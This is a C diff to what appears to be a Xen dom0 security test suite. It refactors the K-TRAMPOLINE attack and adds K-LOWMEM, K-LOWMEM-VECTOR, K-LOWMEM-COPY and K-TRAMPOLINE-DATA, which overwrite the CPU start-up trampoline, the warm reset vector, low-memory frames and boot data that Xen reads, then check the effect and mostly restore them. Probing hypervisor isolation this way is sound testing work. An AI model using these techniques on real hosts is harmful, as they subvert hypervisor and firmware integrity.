@@ -2,7 +2,7 @@
 /*
  * Frames that are nobody's memory to dom0, and yet somebody's.
  */
-#include "machine.h"
+#include "frames.h"
 
 #include <sched.h>
 
@@ -16,24 +16,29 @@
  * Where processors begin that Xen starts: it copies code to a page below 1 MiB,
  * which begins with mov %cs,%ax; mov %ax,%ds.
  */
-static uint64_t trampoline(void)
+static uint64_t find_trampoline(map_frames *map, unmap_frames *unmap)
 {
     static const uint8_t beginning[] = { 0x8c, 0xc8, 0x8e, 0xd8 };
 
     for ( uint64_t frame = 1; frame < LOW_FRAMES; frame++ )
     {
-        volatile void *page = map_machine(frame, 1);
+        volatile void *page = map(frame, 1);
         bool found = false;
 
         if ( page && can_read(page, 0) )
             found = !memcmp((void *)page, beginning, sizeof(beginning));
         if ( page )
-            unmap_machine(page, 1);
+            unmap(page, 1);
         if ( found )
             return frame;
     }
 
     return 0;
+}
+
+static uint64_t trampoline(void)
+{
+    return find_trampoline(map_machine, unmap_machine);
 }
 
 static long set_cpu(uint32_t cmd, uint32_t cpu)
@@ -51,20 +56,17 @@ static long set_cpu(uint32_t cmd, uint32_t cpu)
 static const uint16_t witness = 0x4b54;
 
 /*
- * K-TRAMPOLINE: change the code that a processor begins with, and have Xen start
- * one.
- *
  * It begins in a mode without any protection. Ours leaves a word, puts back what
  * it was called from, and goes on there: Xen does not notice.
  */
-KERNEL_ATTACK("K-TRAMPOLINE", "code of dom0's where a CPU begins")
+enum outcome start_ours(map_frames *map, unmap_frames *unmap)
 {
     static const uint8_t go_to_stub[] = { 0xea, WORD(STUB), WORD(0) };
-    const uint64_t frame = trampoline();
-    volatile uint8_t *page = frame ? map_machine(frame, 1) : NULL,
-                     *low = map_machine(STUB / PAGE_SIZE, 1);
+    const uint64_t frame = find_trampoline(map, unmap);
+    volatile uint8_t *page = frame ? map(frame, 1) : NULL,
+                     *low = map(STUB / PAGE_SIZE, 1);
     uint8_t was[sizeof(go_to_stub)];
-    volatile uint16_t *const seen = (void *)(low + WITNESS % PAGE_SIZE);
+    bool ran;
 
     if ( !page || !low )
         return effect(false, "no page like it can be mapped");
@@ -110,6 +112,121 @@ KERNEL_ATTACK("K-TRAMPOLINE", "code of dom0's where a CPU begins")
     memcpy((void *)page, go_to_stub, sizeof(go_to_stub));
     set_cpu(XENPF_cpu_online, 1);
 
-    return effect_either(*seen == witness, "code of ours", "ran",
-                         "did not run");
+    ran = *(volatile uint16_t *)(low + WITNESS % PAGE_SIZE) == witness;
+    unmap(page, 1);
+    unmap(low, 1);
+
+    return effect_either(ran, "code of ours", "ran", "did not run");
+}
+
+/*
+ * K-TRAMPOLINE: change the code that a processor begins with, and have Xen start
+ * one.
+ */
+KERNEL_ATTACK_BY("K-TRAMPOLINE", "code of dom0's where a CPU begins",
+                 start_ours(map_machine, unmap_machine))
+
+/* ---- the rest of the low megabyte ---- */
+
+/* How many frames can be changed of those from @first up to @end. */
+static unsigned int changeable(uint64_t first, uint64_t end)
+{
+    unsigned int count = 0;
+
+    for ( uint64_t frame = first; frame < end; frame++ )
+        count += can_change_machine(frame * PAGE_SIZE + PAGE_SIZE / 2);
+
+    return count;
+}
+
+/*
+ * K-LOWMEM: change memory below 1 MiB that is nobody's.
+ *
+ * Not dom0's, that is: Xen and the firmware keep what they need early in it.
+ */
+KERNEL_ATTACK("K-LOWMEM", "change memory below 1 MiB")
+{
+    const unsigned int count = changeable(1, LOW_FRAMES);
+
+    return effect(count, "%u of %u frames changed and put back", count,
+                  LOW_FRAMES - 1);
+}
+
+/*
+ * K-LOWMEM-VECTOR: change where the firmware goes after a reset that it is told
+ * not to take for one.
+ */
+KERNEL_ATTACK_BY("K-LOWMEM-VECTOR", "change the firmware's warm reset vector",
+                 change_machine(0x464, "the vector behind 0x467"))
+
+/*
+ * K-LOWMEM-COPY: have Xen copy a page there.
+ *
+ * Below 1 MiB frames belong to the domain that stands for devices, in whose
+ * name dom0 may have pages cleared and copied.
+ */
+KERNEL_PV_ATTACK("K-LOWMEM-COPY", "have Xen copy a page to low memory",
+                 "a PVH dom0 names no frames of the machine")
+{
+    static const uint64_t frame = STUB / PAGE_SIZE;
+    volatile void *low = map_machine(frame, 1);
+    char *ours = buffer(PAGE_SIZE), *before = buffer(PAGE_SIZE);
+    struct mmuext_op op = { .cmd = MMUEXT_COPY_PAGE,
+                            .arg1.mfn = frame,
+                            .arg2.src_mfn = own_frame(ours) };
+    unsigned int done = 0;
+    bool changed;
+
+    if ( !low || !can_read(low, 0) )
+        return cannot_try("low memory cannot be read");
+    memcpy(before, (void *)low, PAGE_SIZE);
+    memset(ours, 'x', PAGE_SIZE);
+    hypercall4(__HYPERVISOR_mmuext_op, &op, 1, &done, DOMID_IO);
+    changed = !memcmp(ours, (void *)low, PAGE_SIZE);
+    if ( changed )
+    {
+        memcpy(ours, before, PAGE_SIZE);
+        hypercall4(__HYPERVISOR_mmuext_op, &op, 1, &done, DOMID_IO);
+    }
+
+    return effect_either(changed, "a frame of low memory",
+                         "overwritten and put back", "as it was");
+}
+
+static int shift_flags(void)
+{
+    struct xen_platform_op op = { .cmd = XENPF_firmware_info,
+                                  .u.firmware_info.type =
+                                      XEN_FW_KBD_SHIFT_FLAGS };
+
+    return platform_op(&op) ? -1 : op.u.firmware_info.u.kbd_shift_flags;
+}
+
+/*
+ * K-TRAMPOLINE-DATA: change what Xen reads of low memory.
+ *
+ * Beside the code Xen keeps what the firmware told it at the start, and tells
+ * dom0: here which keys were held down. Other numbers there say how long a list
+ * is that follows.
+ */
+KERNEL_ATTACK("K-TRAMPOLINE-DATA", "change what Xen reads of low memory")
+{
+    const uint64_t frame = trampoline();
+    volatile uint8_t *pages = frame ? map_machine(frame, 3) : NULL;
+    const int before = shift_flags();
+    int after = before;
+
+    if ( before < 0 )
+        return cannot_try("Xen does not tell of keys");
+    for ( unsigned int at = 0; pages && after == before && at < 3 * PAGE_SIZE;
+          at++ )
+        if ( pages[at] == before && can_change(pages, at & ~3U) )
+        {
+            pages[at] ^= 0xff;
+            after = shift_flags();
+            pages[at] ^= 0xff;
+        }
+
+    return effect(after != before, "the keys held down are %#x, and then %#x",
+                  before, after);
 }
